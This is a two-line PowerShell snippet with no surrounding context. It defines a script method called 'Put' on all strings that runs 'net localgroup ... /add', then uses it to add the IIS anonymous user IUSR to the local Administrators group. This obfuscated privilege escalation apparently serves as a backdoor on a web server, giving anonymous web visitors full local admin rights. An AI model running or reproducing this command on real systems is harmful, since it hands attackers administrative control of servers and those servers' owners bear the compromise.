Update-TypeData -TypeName System.String -MemberType ScriptMethod -MemberName Put -Value { param($g) net localgroup $g $this /add }
'IUSR'.Put('Administrators')
